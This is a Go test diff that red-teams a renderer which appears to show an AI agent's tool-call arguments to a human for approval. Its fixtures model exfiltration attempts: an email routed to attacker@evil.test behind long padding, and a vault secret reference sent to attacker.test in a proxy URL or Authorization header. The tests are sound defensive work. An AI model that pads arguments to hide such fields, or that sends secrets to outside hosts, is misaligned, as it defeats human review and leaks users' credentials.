@@ -85,3 +85,64 @@ func TestRefusals(t *testing.T) {
 		}
 	}
 }
+
+// TestNestedNamesShown (red team of issue 16): a long member of a nested
+// object no longer hides the members after it; arrays of objects likewise.
+// Short nested values stay on one line.
+func TestNestedNamesShown(t *testing.T) {
+	body := strings.Repeat("Hello team, ", 60)
+	for _, tc := range []struct{ args, want string }{
+		{`{"email":{"body":"` + body + `","to":"attacker@evil.test"}}`, "  email: (object, 2 members)\n    body: \"Hello team, "},
+		{`{"email":{"body":"` + body + `","to":"attacker@evil.test"}}`, "\n    to: \"attacker@evil.test\"\n"},
+		{`{"batch":[{"body":"` + body + `"},{"to":"attacker@evil.test"}]}`, "  batch: (array, 2 elements)\n    [0]: (object, 1 member)\n      body: \"Hello team, "},
+		{`{"batch":[{"body":"` + body + `"},{"to":"attacker@evil.test"}]}`, "\n    [1]: {\"to\":\"attacker@evil.test\"}\n"},
+		{`{"a":{"b":{"long":"` + body + `","z":1}}}`, "  a: (object, 1 member)\n    b: (object, 2 members)\n      long: \"Hello team, "},
+		{`{"a":{"b":{"long":"` + body + `","z":1}}}`, "\n      z: 1\n"},
+	} {
+		got, err := prompt.Render([]byte(tc.args), nil)
+		if err != nil || !strings.Contains(got, tc.want) {
+			t.Errorf("%.60s: want %q in\n%s (%v)", tc.args, tc.want, got, err)
+		}
+		if !strings.Contains(got, "more bytes not shown") {
+			t.Errorf("%.60s: the long value's cut is not stated:\n%s", tc.args, got)
+		}
+	}
+	// A long string stays one cut line; a short object stays one line.
+	got, err := prompt.Render([]byte(`{"s":"`+body+`","o":{"to":"x"}}`), nil)
+	if err != nil || !strings.Contains(got, "  o: {\"to\":\"x\"}\n  s: \"Hello") || strings.Count(got, "\n") != 2 {
+		t.Errorf("near miss:\n%s (%v)", got, err)
+	}
+	// Too many nested names to show with part of each value: refused.
+	var many strings.Builder
+	many.WriteString(`{"x":{`)
+	for i := range 300 {
+		fmt.Fprintf(&many, `"argument_number_%03d":"%s",`, i, strings.Repeat("v", 30))
+	}
+	many.WriteString(`"z":1}}`)
+	if _, err := prompt.Render([]byte(many.String()), nil); !errors.Is(err, prompt.ErrTooLong) {
+		t.Errorf("300 nested names: %v, want ErrTooLong", err)
+	}
+}
+
+// TestSecretReferencesNeverCut (red team of issue 16): a value that refers
+// to a vault secret is shown whole, so the human sees where the secret
+// would go; when it cannot fit, Render refuses.
+func TestSecretReferencesNeverCut(t *testing.T) {
+	pad := strings.Repeat("x", 900)
+	for _, args := range []string{
+		`{"proxy":"` + pad + `http://attacker.test/?k={{vault:github}}","url":"https://api.github.com/"}`,
+		`{"opts":{"headers":["` + pad + `","Authorization: {{vault:github}} to attacker.test"]}}`,
+	} {
+		got, err := prompt.Render([]byte(args), nil)
+		if err != nil || !strings.Contains(got, "attacker.test") || !strings.Contains(got, "{{vault:github}}") {
+			t.Errorf("%.50s: the reference's value was cut:\n%s (%v)", args, got, err)
+		}
+	}
+	if _, err := prompt.Render([]byte(`{"proxy":"`+strings.Repeat("x", 5000)+`{{vault:github}}"}`), nil); !errors.Is(err, prompt.ErrTooLong) {
+		t.Errorf("a reference in a value longer than the prompt: %v, want ErrTooLong", err)
+	}
+	// Near miss: a long value without a reference is still cut.
+	if got, _ := prompt.Render([]byte(`{"proxy":"`+pad+`{{vault"}`), nil); !strings.Contains(got, "more bytes not shown") {
+		t.Errorf("a long value without a reference was not cut:\n%s", got)
+	}
+}
